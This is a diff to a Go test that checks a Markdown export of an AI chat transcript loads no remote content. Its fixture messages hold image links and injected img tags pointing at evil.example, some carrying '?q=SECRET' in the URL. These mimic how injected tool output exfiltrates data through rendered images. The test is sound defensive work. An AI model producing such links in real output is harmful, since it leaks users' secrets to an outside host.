@@ -105,12 +105,14 @@ func TestExportLoadsNothing(t *testing.T) {
 		{Role: "assistant", Content: "```\nan answer left open", ToolCalls: json.RawMessage(`[{"function":{"name":"web.fetch","arguments":{"url":"https://x.example/` + "```" + `"}}}]`)},
 		{Role: "tool", ToolName: "web.fetch", Content: "page text\n```\n![x](https://evil.example/o.png?q=SECRET)\n```"},
 		{Role: "assistant", Content: "```\n![y](https://evil.example/p.png?q=SECRET)"},
+		{Role: "tool", ToolName: "x`<img src=\"https://evil.example/n.png\">`", Content: "unknown tool"},
+		{Role: "assistant", ToolCalls: json.RawMessage(`[{"function":{"name":"a` + "``" + `<img src=https://evil.example/c.png>","arguments":{"command":"make && ls > out"}}}]`)},
 	}}
 	md := v.Markdown()
 	if got := render(t, md); loads.MatchString(got) {
 		t.Fatalf("the export loads:\n%s\nfrom\n%s", got, md)
 	}
-	for _, want := range []string{"![x](https://evil.example/o.png?q=SECRET)", "sum it up"} {
+	for _, want := range []string{"![x](https://evil.example/o.png?q=SECRET)", "sum it up", "Calls ` web.fetch `:", `"command": "make && ls > out"`} {
 		if !strings.Contains(md, want) {
 			t.Errorf("the export lost %q:\n%s", want, md)
 		}
